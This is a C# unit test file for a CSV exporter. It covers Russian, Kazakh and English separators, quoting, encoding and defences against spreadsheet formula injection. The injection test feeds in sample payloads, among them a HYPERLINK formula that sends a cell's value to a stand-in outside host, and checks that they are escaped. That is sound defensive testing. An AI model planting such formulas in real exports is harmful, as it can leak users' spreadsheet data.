using System.Globalization;
using System.Text;
using CourtMetrics.Exports;

namespace CourtMetrics.Tests.Exports;

/// <summary>The one CSV writer: the reader's separators, RFC 4180 quoting, and no formula out of a text cell.</summary>
[Trait("Category", "Unit")]
public sealed class CsvFileTests
{
    private static readonly ExportTable Figures = new(
        [new("period_start", "Period start", ExportKind.Date), new("share", "Share", ExportKind.Share), new("days", "Days", ExportKind.Days),
         ExportColumn.Text("court")],
        [
            [new DateOnly(2024, 2, 29), 0.8125, 1234.5, "Алматы; \"центр\""],
            [new DateOnly(2024, 12, 31), -0.25, -12.0, "line\r\nbreak"],
        ]);

    [Theory]
    [InlineData("ru")]
    [InlineData("kk")]
    public void In_russian_and_kazakh_fields_split_on_semicolons_and_numbers_with_a_decimal_comma_read_back_the_same(string language)
    {
        var text = CsvFile.Text(Figures, CsvConvention.Of(language));

        var lines = text.Split("\r\n");
        Assert.Equal("period_start;share;days;court", lines[0]);
        Assert.Equal("2024-02-29;0,8125;1234,5;\"Алматы; \"\"центр\"\"\"", lines[1]);
        var fields = lines[2].Split(';');
        var russian = CultureInfo.GetCultureInfo("ru-RU");
        Assert.Equal((-0.25, -12.0), (double.Parse(fields[1], russian), double.Parse(fields[2], russian)));
        Assert.Equal(1234.5, double.Parse(lines[1].Split(';')[2], russian));
    }

    [Fact]
    public void In_english_fields_split_on_commas_with_a_decimal_point_and_quoted_where_they_must_be()
    {
        var text = CsvFile.Text(Figures, CsvConvention.Of("en"));

        Assert.Equal("period_start,share,days,court\r\n" +
                     "2024-02-29,0.8125,1234.5,\"Алматы; \"\"центр\"\"\"\r\n" +
                     "2024-12-31,-0.25,-12,\"line\r\nbreak\"\r\n", text);
    }

    [Fact]
    public void The_file_is_utf8_with_a_byte_order_mark_and_crlf_line_ends()
    {
        var bytes = CsvFile.Write(Figures, CsvConvention.Comma);

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        Assert.Equal(CsvFile.Text(Figures, CsvConvention.Comma), Encoding.UTF8.GetString(bytes[3..]));
        Assert.DoesNotContain("\n", CsvFile.Text(Figures, CsvConvention.Comma).Replace("\r\n", "").Replace("line\r\nbreak", ""));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")")]
    [InlineData("+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Text_a_spreadsheet_would_run_as_a_formula_is_written_after_an_apostrophe(string value)
    {
        var table = new ExportTable([ExportColumn.Text("source_id")], [[value]]);

        var field = CsvFile.Text(table, CsvConvention.Comma).Split("\r\n", 2)[1];

        Assert.Matches("^\"?'", field);
        Assert.Contains("'" + value.Replace("\"", "\"\""), field);
    }

    [Fact]
    public void Numbers_the_product_computed_stay_numbers_when_negative()
    {
        var table = new ExportTable([new("change", "Change", ExportKind.Number), ExportColumn.Text("note")], [[-2.5, "-2.5"]]);

        Assert.Equal("-2,5;'-2.5", CsvFile.Text(table, CsvConvention.Semicolon).Split("\r\n")[1]);
    }

    [Theory]
    [InlineData("en", null, ',')]
    [InlineData("ru", null, ';')]
    [InlineData("kk", "comma", ',')]
    [InlineData("en", "semicolon", ';')]
    public void The_separator_is_the_languages_unless_the_reader_asks_for_the_other(string language, string? asked, char separator)
    {
        Assert.True(CsvConvention.TryParse(asked, language, out var convention, out _));
        Assert.Equal(separator, convention.Separator);
        Assert.False(CsvConvention.TryParse("tab", language, out _, out var error));
        Assert.Equal("csv 'tab' is not comma or semicolon", error);
    }
}
